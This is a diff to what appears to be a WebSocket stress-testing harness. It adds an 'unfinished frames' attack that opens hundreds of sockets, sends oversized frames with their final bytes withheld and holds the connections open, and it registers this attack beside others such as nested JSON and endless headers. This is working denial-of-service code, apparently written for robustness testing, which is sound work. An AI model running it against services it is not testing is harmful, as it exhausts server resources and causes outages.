@@ -20,6 +20,7 @@ CONTEXTS = 20
 """Contexts that the attacker's key may have open."""
 _IDLE_SOCKETS = 2_000
 _SILENT_SOCKETS = 500
+_UNFINISHED_SOCKETS = 300
 _UPLOAD_BYTES = 30 << 20
 _BOMB_BYTES = 256 << 20
 
@@ -233,6 +234,22 @@ def _handshake(key: str, extensions: str = "") -> bytes:
     ).encode()
 
 
+async def unfinished_frames(url: str, key: str) -> None:
+    """Send large messages without their last bytes, whole and in parts, on many sockets."""
+    size = 999_999
+    whole = b"\x81\xff" + struct.pack(">Q", 1 + size) + bytes(4) + b"a" * size
+    part = b"\x00\xfe" + struct.pack(">H", 1_000) + bytes(4) + b"a" * 1_000
+    frames = (whole, b"\x01\x80" + bytes(4) + part * 1_000)
+    opened: list[asyncio.StreamWriter] = []
+    for number in range(_UNFINISHED_SOCKETS):
+        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+            reader, writer = await _raw(url, _handshake(key))
+            await reader.readuntil(b"\r\n\r\n")
+            writer.write(frames[number % len(frames)])
+            opened.append(writer)
+    await asyncio.sleep(20)
+
+
 async def nested(url: str, key: str) -> None:
     """Send JSON that is nested ten thousand times, to sockets and routes."""
     deep = '{"type": "text", "context_id": "a", "text": ' + "[" * 10_000 + "]" * 10_000 + "}"
@@ -405,6 +422,7 @@ ATTACKS: dict[str, Attack] = {
     "lexicons": lexicons,
     "no reader": no_reader,
     "pings": pings,
+    "unfinished frames": unfinished_frames,
     "nested JSON": nested,
     "long headers": long_headers,
     "endless headers": endless_headers,
